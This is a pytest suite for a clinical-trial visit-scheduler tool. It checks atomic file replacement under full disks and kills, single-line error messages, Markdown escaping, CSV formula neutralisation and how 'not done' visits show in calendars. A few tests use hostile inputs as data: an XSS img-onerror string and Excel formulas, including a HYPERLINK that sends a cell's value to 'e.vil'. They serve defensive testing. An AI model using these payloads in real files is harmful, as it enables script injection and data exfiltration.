"""Holes hostile testing found in the outputs: sets of files replaced whole or not at all
(a full disk, Ctrl-C, SIGKILL mid-swap, a folder holding someone else's files), a failed
workbook that printed openpyxl's traceback, the report's Markdown heading, formulas in the
report's CSV, CSV for Excel, and visits recorded as not done in calendars."""

from __future__ import annotations

import csv
import os
import resource
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import icalendar
import pendulum
import pytest

from .conftest import run_cli, run_process, write

ROSTER = """\
participant_id,name,enrollment_date,site
007,Zhao Min,2010-09-01,01
008,Huang Yong,2010-09-02,01
"""
VISITS = """\
participant_id,visit_code,actual_date,reason
007,D0,2010-09-01,
007,D7,2010-09-09,
008,D0,2010-09-02,
"""
LATER = VISITS + "007,D14,2010-09-15,\n008,D7,2010-09-10,\n"
NEW = ".visit-scheduler-new-"
OLD = ".visit-scheduler-old"


def contents(folder: Path) -> dict[str, bytes | None]:
    """Every file in a folder by name (hidden ones too); None for a folder."""
    return {path.name: path.read_bytes() if path.is_file() else None for path in sorted(folder.iterdir())}


def leftovers(parent: Path) -> list[str]:
    return sorted(path.name for path in parent.iterdir() if NEW in path.name or OLD in path.name)


def limited(folder: Path, limit: int, *args: str) -> subprocess.CompletedProcess[str]:
    """The real command as a process that can write no file larger than ``limit`` bytes: a
    full disk (writes fail with EFBIG; SIGXFSZ is ignored so that the process lives on)."""
    def full_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run([sys.executable, "-m", "scheduler", *args], cwd=folder, capture_output=True,
                          text=True, encoding="utf-8", timeout=120, preexec_fn=full_disk)


def one_message(stderr: str) -> None:
    """Exactly one error line and nothing of Python's own."""
    assert "Traceback" not in stderr and "Exception ignored" not in stderr, stderr
    assert len([line for line in stderr.splitlines() if line.startswith("Error:")]) == 1, stderr


# The real command, with a function of the package wrapped to stop the process at one step:
# argv = [module, function, signal, which call (1 = the first), command...].
STOP = """
import os, runpy, signal, sys, importlib
module, name, signame, when = sys.argv[1:5]
target = importlib.import_module(module)
real = getattr(target, name)
calls = []

def stopping(*args, **kwargs):
    calls.append(1)
    if signame.startswith("after:"):
        result = real(*args, **kwargs)
        if len(calls) == int(when):
            os.kill(os.getpid(), getattr(signal, signame[6:]))
        return result
    if len(calls) == int(when):
        os.kill(os.getpid(), getattr(signal, signame))
    return real(*args, **kwargs)

setattr(target, name, stopping)
if os.environ.get("NO_EXCHANGE"):
    import scheduler.storage.atomic as atomic
    atomic._exchange = lambda first, second: False
sys.argv = ["visit-scheduler", *sys.argv[5:]]
runpy.run_module("scheduler", run_name="__main__")
"""


def stopped(folder: Path, where: str, sig: str, when: int, *args: str,
            exchange: bool = True) -> subprocess.CompletedProcess[str]:
    module, name = where.rsplit(".", 1)
    env = {**os.environ, **({} if exchange else {"NO_EXCHANGE": "1"})}
    return subprocess.run([sys.executable, "-c", STOP, module, name, sig, str(when), *args], cwd=folder,
                          capture_output=True, text=True, encoding="utf-8", timeout=120, env=env)


@pytest.fixture(autouse=True)
def fixed_creation_time(monkeypatch):
    """SDTM files carry their creation time (define.xml, Dataset-JSON, the XPT headers): fixed
    here, as SOURCE_DATE_EPOCH allows, so two runs over the same data give the same bytes and
    the sets these tests compare are the data's, not the clock's. Subprocesses inherit it."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1291161600")  # 2010-12-01T00:00:00Z


# An SDTM export: one file per dataset and define.xml.
SDTM_NAMES = ("define.xml", "dm", "ds", "dv", "se", "suppdv", "sv", "ta", "te", "ti", "ts", "tv")
SDTM_CSV = [name if name.endswith(".xml") else f"{name}.csv" for name in SDTM_NAMES]
SDTM_XPT = [name if name.endswith(".xml") else f"{name}.xpt" for name in SDTM_NAMES]


def export(folder: Path, as_of: str, *extra: str) -> list[str]:
    return ["export", "sdtm", "--as-of", as_of, "-o", "out/sdtm", *extra]


@pytest.fixture
def two_sets(study):
    """A study folder with an SDTM export as of 09-25 in out/sdtm (the old set), and the
    bytes the export as of 10-30 gives (the new set), made in a folder of its own."""
    more = "".join(f"{n:03d},Someone,2010-09-0{n - 6},02\n" for n in range(9, 15))
    folder = study(ROSTER + more, LATER)
    assert run_cli(*export(folder, "2010-10-30"), cwd=folder).exit_code == 0
    new = contents(folder / "out" / "sdtm")
    assert run_cli(*export(folder, "2010-09-25"), cwd=folder).exit_code == 0
    old = contents(folder / "out" / "sdtm")
    assert old != new and sorted(old) == SDTM_CSV
    return folder, old, new


# --------------------------------------------------------------------------- 1. sets of files


def trial_of(folder: Path, factory: pytest.TempPathFactory) -> Path:
    """A copy of the study folder elsewhere, to learn what a run will write."""
    return shutil.copytree(folder, factory.mktemp("trial"), dirs_exist_ok=True)


def sizes_of(folder: Path, factory: pytest.TempPathFactory, *args: str) -> dict[str, int]:
    """The sizes of the files a command writes into out/ (run in a copy of the study)."""
    trial = trial_of(folder, factory)
    assert run_cli(*args, cwd=trial).exit_code == 0
    return {path.name: path.stat().st_size for path in (trial / "out").rglob("*") if path.is_file()}


@pytest.mark.parametrize("limit", ["nothing", "100 bytes", "the smallest file", "between"])
def test_sdtm_transport_files_on_a_full_disk_replace_nothing(study, tmp_path_factory, limit):
    """--format xpt on a full disk: exit 2, one message, the earlier TV/SV/DV as they were
    (never 0-byte files, never a new TV beside an old SV); a first export leaves no folder.
    (pyreadstat, which wrote them until 0.3, did not report every failed write: each file
    was read back to its last row; the tool's own writer raises on any short write.)"""
    folder = study(ROSTER, LATER)
    sizes = sorted(sizes_of(folder, tmp_path_factory, "export", "sdtm", "--as-of", "2010-10-30", "-o", "out",
                            "--format", "xpt").values())
    assert sizes[0] < sizes[-1]
    limit = {"nothing": 0, "100 bytes": 100, "the smallest file": sizes[0],
             "between": (sizes[0] + sizes[-1]) // 2}[limit]
    first = limited(folder, limit, "export", "sdtm", "--as-of", "2010-09-25", "-o", "sdtm", "--format", "xpt")
    assert first.returncode == 2, first.stderr
    one_message(first.stderr)
    assert not (folder / "sdtm").exists() and leftovers(folder) == []
    assert run_cli("export", "sdtm", "--as-of", "2010-09-25", "-o", "sdtm", "--format", "xpt",
                   cwd=folder).exit_code == 0
    before = contents(folder / "sdtm")
    assert all(before.values())
    done = limited(folder, limit, "export", "sdtm", "--as-of", "2010-10-30", "-o", "sdtm", "--format", "xpt")
    assert done.returncode == 2, done.stderr
    one_message(done.stderr)
    assert "nothing was replaced: the earlier files, if any, are unchanged" in done.stderr
    assert contents(folder / "sdtm") == before
    assert leftovers(folder) == []


def test_sdtm_csv_on_a_full_disk_replaces_nothing(two_sets):
    """ts.csv (written first) fits, sv.csv does not: nothing is replaced, not even TS."""
    folder, old, new = two_sets
    tv, sv = len(new["ts.csv"] or b""), len(new["sv.csv"] or b"")
    assert tv < sv
    done = limited(folder, (tv + sv) // 2, *export(folder, "2010-10-30"))
    assert done.returncode == 2, done.stderr
    one_message(done.stderr)
    assert "writing failed (File too large)" in done.stderr
    assert contents(folder / "out" / "sdtm") == old and leftovers(folder / "out") == []
    fresh = limited(folder, (tv + sv) // 2, "export", "sdtm", "--as-of", "2010-10-30", "-o", "out/fresh")
    assert fresh.returncode == 2, fresh.stderr
    assert not (folder / "out" / "fresh").exists() and leftovers(folder / "out") == []


def test_split_calendars_on_a_disk_that_fills_midway_replace_nothing(study, tmp_path_factory):
    """The disk fills after some calendars were written (the last participant's file is the
    largest): every earlier calendar as it was, none of the new ones."""
    long_id = "P" + "9" * 60
    folder = study(ROSTER + f"{long_id},Li Na,2010-09-03,01\n", VISITS)
    assert run_cli("calendar", "--as-of", "2010-09-02", "--split", "cal", cwd=folder).exit_code == 0
    before = contents(folder / "cal")
    trial = trial_of(folder, tmp_path_factory)
    assert run_cli("calendar", "--as-of", "2010-09-12", "--split", "cal", cwd=trial).exit_code == 0
    sizes = {name: len(data) for name, data in contents(trial / "cal").items()}
    small = max(size for name, size in sizes.items() if name != f"{long_id}.ics")
    assert small < sizes[f"{long_id}.ics"]
    done = limited(folder, (small + sizes[f"{long_id}.ics"]) // 2, "calendar", "--as-of", "2010-09-12",
                   "--split", "cal")
    assert done.returncode == 2, done.stderr
    one_message(done.stderr)
    assert contents(folder / "cal") == before and leftovers(folder) == []


def test_split_interrupted_while_writing_says_nothing_was_written_and_means_it(study):
    """SIGTERM after the 2nd of 3 calendars is made: "nothing was written" — and nothing was."""
    folder = study(ROSTER + "009,Li Na,2010-09-03,01\n", VISITS)
    assert run_cli("calendar", "--as-of", "2010-09-02", "--split", "cal", cwd=folder).exit_code == 0
    before = contents(folder / "cal")
    done = stopped(folder, "scheduler.outputs.ics.render", "SIGTERM", 2,
                   "calendar", "--as-of", "2010-09-12", "--split", "cal")
    assert done.returncode == 130, done.stderr
    assert "Interrupted: nothing was written." in done.stderr
    assert contents(folder / "cal") == before and leftovers(folder) == []


def test_sigterm_during_the_swap_waits_for_it_and_says_the_new_files_are_in(two_sets):
    """A signal while the folders are swapped is held until the swap is done: the new set is
    in, and the message says so (not "nothing was written"), exit 130."""
    folder, _, new = two_sets
    done = stopped(folder, "scheduler.storage.atomic._exchange", "SIGTERM", 1, *export(folder, "2010-10-30"))
    assert done.returncode == 130, done.stderr
    assert "interrupted after out/sdtm was replaced whole: the new files are in place" in done.stderr
    assert "nothing was written" not in done.stderr
    assert contents(folder / "out" / "sdtm") == new and leftovers(folder / "out") == []


def test_killed_after_the_one_step_swap_the_next_run_removes_the_old_set(two_sets):
    """SIGKILL right after the folders were exchanged (Linux): the new set is in place, the
    old one is left beside it, and the next run removes it."""
    folder, old, new = two_sets
    from scheduler.storage.atomic import _exchange

    (folder / "a").mkdir(), (folder / "b").mkdir()
    if not _exchange(folder / "a", folder / "b"):
        pytest.skip("this file system cannot exchange two folders in one step")
    (folder / "a").rmdir(), (folder / "b").rmdir()
    done = stopped(folder, "scheduler.storage.atomic._exchange", "after:SIGKILL", 1, *export(folder, "2010-10-30"))
    assert done.returncode == -signal.SIGKILL
    assert contents(folder / "out" / "sdtm") == new
    [aside] = leftovers(folder / "out")
    assert aside.startswith(".sdtm" + NEW) and contents(folder / "out" / aside) == old
    assert run_cli(*export(folder, "2010-10-30"), cwd=folder).exit_code == 0
    assert contents(folder / "out" / "sdtm") == new and leftovers(folder / "out") == []


def test_killed_between_the_two_renames_the_next_run_puts_the_old_set_back(two_sets):
    """Where folders cannot be exchanged in one step: SIGKILL after the old folder was
    renamed aside, before the new one came in. The old set is whole in the aside folder; the
    next run — even one that then fails on a full disk — puts it back first."""
    folder, old, new = two_sets
    done = stopped(folder, "os.rename", "SIGKILL", 2, *export(folder, "2010-10-30"), exchange=False)
    assert done.returncode == -signal.SIGKILL
    assert not (folder / "out" / "sdtm").exists()
    assert contents(folder / "out" / (".sdtm" + OLD)) == old
    failed = limited(folder, 100, *export(folder, "2010-10-30"))
    assert failed.returncode == 2, failed.stderr
    assert contents(folder / "out" / "sdtm") == old and leftovers(folder / "out") == []
    assert run_cli(*export(folder, "2010-10-30"), cwd=folder).exit_code == 0
    assert contents(folder / "out" / "sdtm") == new and leftovers(folder / "out") == []


def test_killed_after_the_two_renames_the_next_run_removes_the_old_set(two_sets):
    folder, old, new = two_sets
    done = stopped(folder, "os.rename", "after:SIGKILL", 2, *export(folder, "2010-10-30"), exchange=False)
    assert done.returncode == -signal.SIGKILL
    assert contents(folder / "out" / "sdtm") == new
    assert contents(folder / "out" / (".sdtm" + OLD)) == old
    assert run_cli(*export(folder, "2010-09-25"), cwd=folder).exit_code == 0
    assert contents(folder / "out" / "sdtm") == old and leftovers(folder / "out") == []


def test_killed_while_building_the_next_run_removes_what_was_built(two_sets):
    folder, old, new = two_sets
    done = stopped(folder, "scheduler.outputs.sdtm_files.write_coded_csv", "SIGKILL", 2, *export(folder, "2010-10-30"))
    assert done.returncode == -signal.SIGKILL
    assert contents(folder / "out" / "sdtm") == old
    [building] = leftovers(folder / "out")
    assert building.startswith(".sdtm" + NEW)
    assert run_cli(*export(folder, "2010-10-30"), cwd=folder).exit_code == 0
    assert contents(folder / "out" / "sdtm") == new and leftovers(folder / "out") == []


def test_a_folder_holding_files_the_tool_did_not_write_is_refused_never_emptied(study):
    """Another file (or a folder) in DIR: exit 2, named, nothing written, nothing removed."""
    folder = study(ROSTER, VISITS)
    assert run_cli("export", "sdtm", "-o", "sdtm", cwd=folder).exit_code == 0
    assert run_cli("calendar", "--split", "cal", cwd=folder).exit_code == 0
    write(folder / "sdtm", "notes.txt", "the sponsor's notes\n")
    (folder / "cal" / "old").mkdir()
    write(folder, "my.ics", "BEGIN:VCALENDAR\r\nPRODID:-//Microsoft Corporation//Outlook//EN\r\nEND:VCALENDAR\r\n")
    (folder / "cal" / "holidays.ics").write_bytes((folder / "my.ics").read_bytes())
    sdtm, cal = contents(folder / "sdtm"), contents(folder / "cal" / "old") | contents(folder / "cal")
    result = run_cli("export", "sdtm", "--as-of", "2010-10-30", "-o", "sdtm", cwd=folder)
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: sdtm holds notes.txt, which visit-scheduler did not write — nothing was written: the tool "
        "replaces its files there as one set, so move it elsewhere, or name another folder with -o\n")
    result = run_cli("calendar", "--as-of", "2010-10-30", "--split", "cal", "-o", "site.ics", cwd=folder)
    assert result.exit_code == 2
    assert "Error: cal holds holidays.ics, old, which visit-scheduler did not write" in result.stderr
    assert "move them elsewhere" in result.stderr
    assert not (folder / "site.ics").exists()  # nothing written: not the site calendar either
    assert contents(folder / "sdtm") == sdtm
    assert contents(folder / "cal" / "old") | contents(folder / "cal") == cal
    assert leftovers(folder) == []
    result = run_cli("export", "sdtm", "--study", "..", "-o", ".", cwd=folder / "sdtm")
    assert result.exit_code == 2 and ". is the folder you are working in (or holds it)" in result.stderr, result.stderr


def test_the_tools_own_files_are_known_and_kept(study):
    """A folder an earlier version wrote (0.2's TV.csv …, and a temporary file a killed run
    left) is the tool's: replaced. An SDTM export replaces the whole set (define.xml describes
    exactly its files): the CSVs go when the XPT set comes in. Calendars of participants not
    exported stay as they were, and the site calendar written into the --split folder is part
    of the set."""
    folder = study(ROSTER, VISITS)
    (folder / "sdtm").mkdir()
    for name in ("TV.csv", "SV.csv", "DV.csv", ".SV.csv.k2j4h5g6.tmp"):
        write(folder / "sdtm", name, "from 0.2.0\n")
    assert run_cli("export", "sdtm", "-o", "sdtm", cwd=folder).exit_code == 0
    assert sorted(contents(folder / "sdtm")) == SDTM_CSV
    assert run_cli("export", "sdtm", "-o", "sdtm", "--format", "xpt", cwd=folder).exit_code == 0
    assert sorted(contents(folder / "sdtm")) == SDTM_XPT

    result = run_cli("calendar", "--as-of", "2010-09-02", "--split", "cal", "-o", "cal/site.ics", cwd=folder)
    assert result.exit_code == 0, result.stderr
    assert sorted(contents(folder / "cal")) == ["007.ics", "008.ics", "site.ics"]
    other = (folder / "cal" / "008.ics").read_bytes()
    result = run_cli("calendar", "--as-of", "2010-09-12", "--split", "cal", "--participant", "007", cwd=folder)
    assert result.exit_code == 0, result.stderr
    assert sorted(contents(folder / "cal")) == ["007.ics", "008.ics", "site.ics"]
    assert (folder / "cal" / "008.ics").read_bytes() == other
    assert leftovers(folder) == []


def test_a_folder_named_for_several_files_is_created_with_its_parents(study):
    folder = study(ROSTER, VISITS)
    assert run_cli("export", "sdtm", "-o", "out/a/sdtm", cwd=folder).exit_code == 0
    assert sorted(contents(folder / "out" / "a" / "sdtm")) == SDTM_CSV
    assert run_cli("calendar", "--split", "out/b/cal", cwd=folder).exit_code == 0
    assert sorted(contents(folder / "out" / "b" / "cal")) == ["007.ics", "008.ics"]
    assert leftovers(folder / "out" / "a") == leftovers(folder / "out" / "b") == []


# --------------------------------------------------------------------------- 2. workbooks


@pytest.mark.parametrize("args", [["check", "-o", "gone/c.xlsx"],
                                  ["report", "--week", "2010-W37", "-o", "gone/r.xlsx"]])
def test_a_workbook_that_cannot_be_written_says_so_once(study, args):
    """A folder that is not there: the one message, no "Exception ignored … Traceback" from
    openpyxl's half-closed sheets when Python tidies up."""
    folder = study(ROSTER, VISITS)
    done = run_process(*args, cwd=folder)
    assert done.exit_code == 2, done.stderr
    one_message(done.stderr)
    assert "the folder gone does not exist" in done.stderr


@pytest.mark.parametrize("limit", [3000, 20000])
def test_a_workbook_on_a_full_disk_says_so_once(study, limit):
    """Full under openpyxl's temporary sheets (3,000) or only for the workbook (20,000)."""
    folder = study(ROSTER, VISITS)
    assert run_cli("report", "--week", "2010-W37", "-o", "r.xlsx", cwd=folder).exit_code == 0
    before = (folder / "r.xlsx").read_bytes()
    done = limited(folder, limit, "report", "--week", "2010-W37", "-o", "r.xlsx")
    assert done.returncode == 2, done.stderr
    one_message(done.stderr)
    assert (folder / "r.xlsx").read_bytes() == before
    assert sorted(path.name for path in folder.iterdir()) == ["participants.csv", "r.xlsx", "visits.csv"]


# --------------------------------------------------------------------------- 3. the Markdown heading


def test_the_markdown_heading_is_escaped_like_the_cells(study):
    """A site (or study id) with HTML or Markdown in it stays text in the heading."""
    roster = ROSTER.replace(",01\n008", ",<img src=x onerror=alert(1)>\n008").replace(
        "2010-09-02,01", "2010-09-02,**big** [x](http://e.vil) `code` _u_")
    folder = study(roster, VISITS + "008,D7,2010-09-15,*late* <b>bold</b>\n")
    result = run_cli("report", "--week", "2010-W37", "-o", "r.md", cwd=folder)
    assert result.exit_code == 0, result.stderr
    text = (folder / "r.md").read_text("utf-8")
    heading = text.splitlines()[0]
    assert heading == ("# Weekly deviation report — NCT01143168 (sites \\*\\*big\\*\\* \\[x\\](http://e.vil) "
                       "\\`code\\` \\_u\\_, &lt;img src=x onerror=alert(1)&gt;)")
    assert "<" not in text and "\\*late\\* &lt;b&gt;bold&lt;/b&gt;" in text
    terminal = run_cli("report", "--week", "2010-W37", cwd=folder)
    assert terminal.stdout.splitlines()[0] == heading


# --------------------------------------------------------------------------- 4. CSV for Excel


FORMULAS = ['=HYPERLINK("http://e.vil/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)"]


def test_the_reports_csv_neutralises_formulas_and_the_contract_csvs_keep_them(study):
    """In the report's CSV a cell beginning with = + - @ begins with ' (Excel shows it as
    typed); check's CSV keeps the reason as recorded."""
    rows = [("007", "D0", "2010-09-03"), ("008", "D0", "2010-09-04"),   # late by 2 days each
            ("007", "D7", "2010-09-13"), ("008", "D7", "2010-09-14")]
    with open(study(ROSTER) / "visits.csv", "w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream, lineterminator="\n")
        writer.writerow(["participant_id", "visit_code", "actual_date", "reason"])
        writer.writerows([*row, reason] for row, reason in zip(rows, FORMULAS))
    folder = study(ROSTER)
    assert run_cli("report", "--week", "2010-W37", "-o", "r.csv", cwd=folder).exit_code == 0
    assert run_cli("check", "--as-of", "2010-09-20", "-o", "c.csv", cwd=folder).exit_code == 0
    with open(folder / "r.csv", newline="", encoding="utf-8-sig") as stream:
        reported = sorted(row["reason"] for row in csv.DictReader(stream) if row["reason"])
    with open(folder / "c.csv", newline="", encoding="utf-8-sig") as stream:
        checked = sorted(row["reason"] for row in csv.DictReader(stream) if row["reason"])
    assert reported == sorted("'" + formula for formula in FORMULAS)
    assert checked == sorted(FORMULAS)


def test_csv_outputs_are_excels_csv_utf8_but_sdtms_are_not(study):
    """schedule, check, due and the report: a byte-order mark first; SDTM's CSVs: none."""
    folder = study(ROSTER, VISITS + "008,D7,2010-09-15,病房已满\n")
    for args in (["schedule", "-o", "s.csv"], ["check", "-o", "c.csv"], ["due", "-o", "d.csv"],
                 ["report", "--week", "2010-W37", "-o", "r.csv"], ["export", "sdtm", "-o", "sdtm"]):
        extra = [] if args[0] == "report" else ["--as-of", "2010-09-20"]
        assert run_cli(*args, *extra, cwd=folder).exit_code in (0, 1), args
    for name in ("s.csv", "c.csv", "d.csv", "r.csv"):
        data = (folder / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbfparticipant_id,visit_code,"), name
    assert "病房已满" in (folder / "c.csv").read_text("utf-8-sig")
    for name in SDTM_CSV:
        if name.endswith(".csv"):
            assert (folder / "sdtm" / name).read_bytes().startswith((b"STUDYID,DOMAIN,", b"STUDYID,RDOMAIN,")), name


# --------------------------------------------------------------------------- 5. not done in calendars


def events_at(folder: Path, as_of: str) -> dict[str, icalendar.Event]:
    with pendulum.travel_to(pendulum.parse(as_of + "T10:00:00+00:00"), freeze=True):
        result = run_cli("calendar", "--as-of", as_of, "-o", "site.ics", cwd=folder)
    assert result.exit_code == 0, result.stderr
    calendar = icalendar.Calendar.from_ical((folder / "site.ics").read_bytes())
    return {str(event["uid"]).split("-", 1)[1].split("@")[0]: event for event in calendar.walk("VEVENT")}


def test_a_visit_recorded_as_not_done_says_so_without_reminder_or_reason(study):
    """007 M1 (window 09-28 … 10-04) recorded as not done: "007 M1 not done", no VALARM,
    still an ordinary event over its window, the reason's text nowhere; SEQUENCE moves once
    (to do → not done), not again when the window closes."""
    folder = study(ROSTER, VISITS)
    before = events_at(folder, "2010-09-20")["007-M1"]
    assert str(before["summary"]) == "007 M1 target 2010-10-01" and before.walk("VALARM")
    assert int(before["sequence"]) == 0
    write(folder, "visits.csv", VISITS + "007,M1,,in hospital with pneumonia\n")
    event = events_at(folder, "2010-09-29")["007-M1"]
    assert str(event["summary"]) == "007 M1 not done"
    assert not event.walk("VALARM")
    assert str(event["status"]) == "CONFIRMED"
    assert (str(event["dtstart"].dt), str(event["dtend"].dt)) == ("2010-09-28", "2010-10-05")
    description = str(event["description"])
    assert "Status: not done, as recorded in the visits file" in description
    assert "Reason: recorded in the visits file" in description and "Suggested date" not in description
    assert "pneumonia" not in (folder / "site.ics").read_text("utf-8")
    assert int(event["sequence"]) == 1
    closed = events_at(folder, "2010-10-10")["007-M1"]
    assert str(closed["summary"]) == "007 M1 not done" and not closed.walk("VALARM")
    assert int(closed["sequence"]) == 1
    assert "window closed 2010-10-04" in str(closed["description"])
    other = events_at(folder, "2010-10-10")["008-M1"]  # nothing recorded: missed, as before
    assert str(other["summary"]) == "008 M1 MISSED: window closed 2010-10-05" and int(other["sequence"]) == 1


@pytest.fixture
def small_disk(tmp_path: Path):
    """A tmpfs of the size asked for (``small_disk("64k")``): a disk that really fills
    (ENOSPC), where the system lets us mount one."""
    mounted: list[Path] = []

    def mount(size: str) -> Path:
        disk = tmp_path / f"disk-{size}"
        disk.mkdir()
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(disk)],
                              capture_output=True) if os.geteuid() == 0 else None
        if done is None or done.returncode != 0:
            pytest.skip("needs root and a system that lets it mount a tmpfs")
        mounted.append(disk)
        return disk

    yield mount
    for disk in mounted:
        subprocess.run(["umount", str(disk)], check=True)


def test_a_disk_that_really_fills_midway_replaces_nothing(study, small_disk):
    """On 64 KiB, 24 calendars (about 150 KB) do not fit where 3 did: the 3 stay as they were.
    On 256 KiB, an SDTM transport set (about 180 KiB in 4 KiB pages: define.xml 70 KB, sv.xpt
    and dv.xpt 25–35 KB, nine small files) fits once but not twice (the new set is built beside
    the old): the first stays as it was."""
    folder = study("participant_id,enrollment_date\n" + "".join(f"{n:03d},2010-09-01\n" for n in range(1, 25)))
    disk = small_disk("64k")
    chosen = [arg for n in ("001", "002", "003") for arg in ("--participant", n)]
    assert run_cli("calendar", "--split", str(disk / "cal"), *chosen, cwd=folder).exit_code == 0
    before = contents(disk / "cal")
    result = run_cli("calendar", "--split", str(disk / "cal"), cwd=folder)
    assert result.exit_code == 2
    assert "writing failed (No space left on device) — nothing was replaced" in result.stderr
    assert contents(disk / "cal") == before and leftovers(disk) == []
    disk = small_disk("256k")
    result = run_cli("export", "sdtm", "-o", str(disk / "sdtm"), "--format", "xpt", cwd=folder)
    assert result.exit_code == 0, result.stderr
    before = contents(disk / "sdtm")
    result = run_cli("export", "sdtm", "-o", str(disk / "sdtm"), "--format", "xpt", cwd=folder)
    assert result.exit_code == 2, result.stderr
    assert "nothing was replaced" in result.stderr
    assert contents(disk / "sdtm") == before and leftovers(disk) == []
